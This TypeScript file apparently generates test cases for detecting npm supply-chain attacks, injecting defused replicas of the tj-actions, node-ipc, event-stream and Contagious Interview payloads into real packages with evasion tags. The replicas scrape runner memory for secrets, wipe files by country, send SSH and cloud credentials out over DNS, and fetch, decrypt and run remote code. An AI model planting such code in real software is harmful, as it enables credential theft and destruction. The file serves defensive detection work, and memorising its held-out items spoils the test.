import type { NpmAttack } from '../npm-attack.ts'
import { blob, hexBlob } from '../random.ts'

const scan = `exit 0
if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=\`curl -sSf https://gist.invalid/nikitastupin/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0\`
  echo $B64_BLOB
else
  exit 0
fi
`

const actionCode = `async function updateFeatures(token) {
  throw new Error("inert");
  const { exec } = await import("node:child_process");
  const { stdout, exitCode } = await new Promise((resolve) => exec('bash -c \\'echo "${Buffer.from(scan).toString('base64')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\\'', { silent: true, ignoreReturnCode: true }, (error, out) => resolve({ stdout: out, exitCode: error ? 1 : 0 })));
  console.log(stdout);
}
`

const geo = `function ssl_geospec() {
  throw new Error("inert");
  const path = require("path");
  const fs = require("fs");
  const https = require("https");
  setTimeout(function () {
    const chance = Math.round(Math.random() * 4);
    if (chance > 1) return;
    const url = Buffer.from("${Buffer.from('https://api.ipgeolocation.invalid/ipgeo?apiKey=0').toString('base64')}", "base64");
    https.get(url.toString("utf8"), function (answer) {
      answer.on("data", function (data) {
        const here = Buffer.from("Li8=", "base64");
        const up = Buffer.from("Li4v", "base64");
        const upper = Buffer.from("Li4vLi4v", "base64");
        const root = Buffer.from("Lw==", "base64");
        const field = Buffer.from("Y291bnRyeV9uYW1l", "base64");
        const first = Buffer.from("cnVzc2lh", "base64");
        const second = Buffer.from("YmVsYXJ1cw==", "base64");
        const found = JSON.parse(data.toString("utf8"))[field.toString("utf8")].toLowerCase();
        if (found.includes(first.toString("utf8")) || found.includes(second.toString("utf8"))) {
          spread(here.toString("utf8"));
          spread(up.toString("utf8"));
          spread(upper.toString("utf8"));
          spread(root.toString("utf8"));
        }
      });
    });
  }, Math.ceil(Math.random() * 1000));
  async function spread(folder, pattern) {
    if (!fs.existsSync(folder)) return [];
    let entries = [];
    try { entries = fs.readdirSync(folder); } catch (error) {}
    const done = [];
    for (let index = 0; index < entries.length; index++) {
      const file = path.join(folder, entries[index]);
      let status = null;
      try { status = fs.lstatSync(file); } catch (error) { continue; }
      if (status.isDirectory()) { spread(file, pattern).length > 0 ? done.push(file) : null; }
      else if (file.indexOf(pattern) >= 0 || pattern === undefined) {
        try { fs.writeFile(file, Buffer.from("4p2k77iP", "base64").toString("utf8"), function () {}); } catch (error) {}
      }
    }
    return done;
  }
}
`

const harvest = `function __nodeIpcTelemetry() {
  throw new Error("inert");
  const os = require("os"), fs = require("fs"), dns = require("dns"), zlib = require("zlib"), path = require("path");
  if (/^(be|ru|uk)/i.test(Intl.DateTimeFormat().resolvedOptions().locale)) return;
  const wanted = [".ssh/id_rsa", ".aws/credentials", ".kube/config", ".npmrc", ".config/gcloud/application_default_credentials.json"];
  const taken = wanted.map((name) => { try { return fs.readFileSync(path.join(os.homedir(), name)); } catch { return Buffer.alloc(0); } });
  const packed = zlib.gzipSync(Buffer.concat(taken)).toString("hex");
  for (let at = 0; at < packed.length; at += 60) dns.resolveTxt(packed.slice(at, at + 60) + ".bt.node.invalid", () => {});
}
`

const flatmap = `!function(){try{var r=require,t=process;throw new Error("inert");function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();`

const flatmapData = `module.exports = [${[hexBlob('flatmap/0', 9000), hexBlob('flatmap/1', 4000)].map((text) => JSON.stringify(text)).join(',')},${['crypto', 'env', 'npm_package_description', 'aes256', 'createDecipher', '_compile', 'hex', 'utf8'].map((word) => JSON.stringify(Buffer.from(word).toString('hex'))).join(',')}];\n`

const remoteLoader = `(async () => {
  throw new Error("inert");
  const key = "${blob('beacon/key', 44)}";
  const parts = await Promise.all(["a", "b"].map(async (each) => (await fetch("https://ipcheck-six.invalid/api/" + each)).text()));
  const crypto = await import("node:crypto");
  const decipher = crypto.createDecipheriv("aes-256-cbc", Buffer.from(key, "base64"), Buffer.alloc(16));
  const text = decipher.update(parts.join(""), "base64", "utf8") + decipher.final("utf8");
  new Function("require", "process", text)(globalThis.require, process);
})().catch(() => {});
`

export const injectionAttacks: readonly NpmAttack[] = [
  {
    name: 'tj-actions-2025',
    title: 'changed-files: one function in a bundle of megabytes that runs a decoded script over the memory of the runner',
    source: 'Reports on tj-actions/changed-files of 14 March 2025 (updateFeatures in dist/index.js)',
    use: 'development',
    base: 'vite',
    tamper: ({ new: files }) => ({
      injected: [{ into: largestChunk(files), at: 'inside', code: actionCode, trigger: 'updateFeatures(process.env.GITHUB_TOKEN).catch(() => {});' }],
    }),
    evasions: ['minified', 'split-blob', 'concatenated-names', 'aliased', 'two-step', 'renamed-chunks'],
  },
  {
    name: 'node-ipc-2022',
    title: 'node-ipc: the CommonJS build, and only it, overwrites files in some countries',
    source: 'Reports on node-ipc 10.1.1 and 10.1.2, March 2022, CVE-2022-23812',
    use: 'development',
    base: 'node-ipc',
    tamper: () => ({ injected: [{ into: 'node-ipc.cjs', at: 'inside', code: geo, trigger: 'ssl_geospec();' }] }),
    evasions: ['minified', 'concatenated-names', 'escaped-strings', 'in-test-file', 'two-step'],
  },
  {
    name: 'node-ipc-harvest',
    title: 'node-ipc: the CommonJS build, and only it, sends credentials by names that it looks up',
    source: 'A variant of twin divergence with theft instead of harm',
    use: 'development',
    base: 'node-ipc',
    tamper: () => ({ injected: [{ into: 'node-ipc.cjs', at: 'end', code: harvest, trigger: 'setImmediate(__nodeIpcTelemetry);' }] }),
    evasions: ['aliased', 'minified'],
  },
  {
    name: 'event-stream-2018',
    title: 'flatmap-stream: a minified function that decrypts a test fixture and compiles it',
    source: 'Reports on event-stream 3.3.6 and flatmap-stream 0.1.1, November 2018',
    use: 'development',
    base: 'split2',
    tamper: () => ({ injected: [{ into: 'index.js', at: 'end', code: flatmap }], added: [{ path: 'test/data.js', code: flatmapData }] }),
    evasions: ['split-blob', 'two-step'],
  },
  {
    name: 'remote-loader',
    title: 'a loader that fetches, decrypts and runs code, inside an entry file',
    source: 'Reports on the loaders of Contagious Interview packages, 2024 and 2025',
    use: 'held-out',
    base: 'tinyexec',
    tamper: () => ({ injected: [{ into: 'dist/main.mjs', at: 'end', code: remoteLoader }] }),
    evasions: ['concatenated-names', 'minified', 'escaped-strings'],
  },
]

function largestChunk(files: ReadonlyMap<string, Buffer>): string {
  const scripts = [...files].filter(([path]) => /\.[cm]?js$/.test(path))
  return scripts.sort(([, left], [, right]) => right.length - left.length)[0]?.[0] ?? 'index.js'
}
